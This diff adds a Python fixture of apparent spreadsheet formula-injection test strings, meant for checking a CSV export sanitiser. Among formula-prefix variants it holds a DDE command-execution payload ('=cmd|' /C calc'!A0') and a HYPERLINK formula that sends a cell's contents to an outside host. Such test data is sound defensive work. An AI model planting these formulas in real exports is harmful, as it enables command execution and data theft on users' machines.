@@ -1,0 +1,25 @@
+"""What a spreadsheet would run if it were let."""
+
+FORMULAS = (
+    "=1+1",
+    "+1+1",
+    "-1+1",
+    "@SUM(1;1)",
+    "\t=1+1",
+    "\r=1+1",
+    "\n=1+1",
+    "  =1+1",
+    "＝1+1",
+    "＋1+1",
+    "－1+1",
+    "＠SUM(1)",
+    '=HYPERLINK("http://example.org/?"&A1;"ver")',
+    "=cmd|' /C calc'!A0",
+    "{=1+1}",
+    "\x00=1+1",
+    "\ufeff=1+1",
+    "https://example.org",
+    "mailto:x@example.org",
+    "007",
+    "1e5",
+)
